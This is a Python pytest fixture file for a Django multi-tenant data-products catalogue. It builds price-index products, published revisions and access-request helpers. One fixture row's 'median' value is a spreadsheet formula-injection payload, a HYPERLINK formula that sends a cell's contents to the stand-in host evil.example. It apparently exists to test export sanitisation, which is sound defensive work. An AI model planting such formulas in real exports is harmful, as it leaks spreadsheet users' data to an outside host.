"""Access fixtures: the mould brain's price index as an on-request product and as a paid one, each with a published
revision whose rows passed the privacy rule (built straight from the models, as a published build leaves them: a
remainder row pools the suppressed cells); alice's mould maker asks, olga operates the brain, gov is its government
viewer, hongda another member; charlie is in the pump-valve brain."""

from datetime import date
from decimal import Decimal as D

import pytest
from django.utils import timezone

from conftest import join, make_enterprise, make_user
from dataproducts.models import DataProduct, Revision, RevisionRow
from dataproducts.services import access_requests
from dataproducts.services.products import product_create, product_update
from tenants.context import brain_context
from tenants.models import BrainStaff
from tests.endpoints import operator_of

ROWS = [  # (process, material family, month) → median, p25, p75, enterprises, lines
    ({"process": "CNC", "material": "plastic", "month": "2026-11"},
     {"median": "185.00", "p25": "160.00", "p75": "210.00", "enterprises": 7, "lines": 42}),
    ({"process": "CNC", "material": "hot_work", "month": "2026-11"},
     {"median": "240.50", "p25": "221.00", "p75": "262.00", "enterprises": 5, "lines": 18}),
    ({"process": "HT", "material": "plastic", "month": "2026-11"},
     {"median": "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "p25": "12.00", "p75": "15.00",
      "enterprises": 6, "lines": 30}),
]
REMAINDER = {"median": "98.00", "p25": "80.00", "p75": "120.00", "enterprises": 4, "lines": 9}


def make_product(brain, code="price-index", access=DataProduct.Access.REQUEST, status=DataProduct.Status.LISTED,
                 **prices) -> DataProduct:
    """A price-index product of `brain`, made and listed by its operator through the catalogue's services."""
    operator = operator_of(brain)
    product = product_create(brain=brain, by=operator, definition="price_index", code=code, name_zh="外协加工价格指数",
                             name_en="Machining price index", access=access, **prices)
    if status != DataProduct.Status.DRAFT:
        product_update(product=product, by=operator, status=status)
    return fresh(product)


def publish(product, rows=ROWS, remainder=REMAINDER, number=None, period=(date(2026, 11, 1), date(2026, 11, 30))):
    """A published revision of `product` with `rows` and a remainder row (built as a draft, then published: the
    database keeps a published revision's rows as they are)."""
    with brain_context(product.brain_id):
        number = number or (Revision.objects.filter(product=product).count() + 1)
        revision = Revision.objects.create(
            brain_id=product.brain_id, product=product, number=number, period_from=period[0], period_to=period[1],
            definition_version="1.0", row_count=len(rows) + (1 if remainder else 0), suppressed_count=2)
        RevisionRow.objects.bulk_create(
            [RevisionRow(brain_id=product.brain_id, revision=revision, position=i, dimensions=dims, measures=meas,
                         enterprises=meas["enterprises"]) for i, (dims, meas) in enumerate(rows)]
            + ([RevisionRow(brain_id=product.brain_id, revision=revision, position=len(rows), dimensions={},
                            measures=remainder, is_remainder=True, enterprises=remainder["enterprises"])]
               if remainder else []))
        Revision.objects.filter(pk=revision.pk).update(status=Revision.Status.PUBLISHED, published_at=timezone.now())
        revision.refresh_from_db()
        return revision


@pytest.fixture
def on_request(mould):
    product = make_product(mould)
    publish(product)
    return product


@pytest.fixture
def paid(mould):
    """The paid price index: ¥300.00 a month, ¥0.50 a call, ¥0.02 a row, VAT 6 % included."""
    product = make_product(mould, code="price-index-pro", access=DataProduct.Access.PAID,
                           subscription_price=D("300.00"), price_per_call=D("0.50"), price_per_row=D("0.02"))
    publish(product)
    return product


@pytest.fixture
def open_product(mould):
    product = make_product(mould, code="activity", access=DataProduct.Access.OPEN)
    publish(product)
    return product


@pytest.fixture
def gov(mould):
    viewer = make_user("gov")
    with brain_context(mould.pk):
        BrainStaff.objects.create(brain=mould, user=viewer, role=BrainStaff.Role.GOVERNMENT_VIEWER)
    return viewer


@pytest.fixture
def hongda(mould):
    enterprise = make_enterprise(51, "台州市黄岩宏达精密机械加工厂")
    join(mould, enterprise, roles=("supplier",))
    return make_user("hongda", enterprise=enterprise)


@pytest.fixture
def otto(mould):
    """A second operator of the mould brain."""
    user = make_user("otto")
    with brain_context(mould.pk):
        BrainStaff.objects.create(brain=mould, user=user, role=BrainStaff.Role.OPERATOR)
    return user


def ask(product, user, purpose="核算外协报价的参考价", days=30):
    return access_requests.access_request_make(product=product, by=user, purpose=purpose, days=days)


def approved(product, user, operator, days=30):
    """`user`'s enterprise's subscription to `product`, granted by `operator`'s approval."""
    request = access_requests.access_request_approve(request=ask(product, user, days=days), by=operator)
    with brain_context(product.brain_id):
        return request.subscription


def fresh(obj):
    with brain_context(obj.brain_id):
        return type(obj).objects.get(pk=obj.pk)
